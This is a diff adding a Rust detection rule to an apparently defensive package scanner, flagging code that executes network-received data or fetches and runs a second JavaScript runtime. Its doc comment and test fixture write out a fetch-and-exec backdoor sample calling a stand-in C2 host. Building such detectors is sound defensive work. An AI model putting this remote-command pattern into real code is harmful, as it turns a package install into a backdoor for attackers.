@@ -1,0 +1,92 @@
+//! `code/download-exec`.
+
+use super::{chain, finding, locality, per_signal};
+use crate::CodeFinding;
+use crate::signal::{Kind, PackageFacts};
+use crate::verdict::Locality;
+use diligence_finding::Severity;
+
+diligence_finding::declare_rule! {
+    /// Code runs what it receives from the network, or fetches a second runtime and runs a file with it.
+    ///
+    /// ## What it detects
+    /// Process spawns or `eval`/`Function` whose argument is data received inside a network callback (C2 command
+    /// loops), and install-time fetches of a second runtime (bun, deno) that is then spawned.
+    ///
+    /// ## Why it matters
+    /// Remote command execution turns an install into a backdoor (desktop-notify style agents); Shai-Hulud 2.0
+    /// fetched bun at install time to run its payload outside Node's view.
+    ///
+    /// ## Example
+    /// `https.get(u, r => r.on('data', c => b += c).on('end', () => exec(b)))`
+    ///
+    /// ## Known false positives
+    /// Installers that download a prebuilt binary and run it to check its version; checksum-verified downloads
+    /// from the project's own releases are not remote command execution and are not reported.
+    pub static DOWNLOAD_EXEC = { id: "code/download-exec", severity: Severity::High };
+}
+
+/// Remote exec and runtime droppers.
+pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    let mut out = per_signal(p, Kind::RemoteExec, |f, s| {
+        let msg = format!("network data executed: {}", s.detail);
+        Some(finding(
+            &DOWNLOAD_EXEC,
+            Severity::Critical,
+            f,
+            s,
+            Locality::Function,
+            msg,
+            chain(p, f, s, &[Kind::Network, Kind::Spawn]),
+        ))
+    });
+    out.extend(per_signal(p, Kind::RuntimeDropper, |f, s| {
+        let loc = locality(p, f, s, &[Kind::Spawn, Kind::ShellPipeExec]);
+        if loc < Locality::File || f.has(Kind::ChecksumVerify) {
+            return None;
+        }
+        let msg = format!("second JavaScript runtime fetched and run: {}", s.detail);
+        Some(finding(
+            &DOWNLOAD_EXEC,
+            DOWNLOAD_EXEC.default_severity,
+            f,
+            s,
+            loc,
+            msg,
+            chain(p, f, s, &[Kind::Network, Kind::Spawn]),
+        ))
+    }));
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::test_util::{PJ, hits, scan};
+
+    #[test]
+    fn positive() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "agent.js",
+                "const https = require('https');\nconst { exec } = require('child_process');\nhttps.get('https://c2.example.net/t', (res) => {\n  let b = '';\n  res.on('data', (c) => { b += c; });\n  res.on('end', () => { exec(b); });\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("agent.js".to_string(), 6)]
+        );
+    }
+
+    #[test]
+    fn negative_fixed_command() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "a.js",
+                "const https = require('https');\nconst { execFile } = require('child_process');\nhttps.get('https://x.example.net', () => { execFile('git', ['status']); });\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/download-exec").is_empty());
+    }
+}
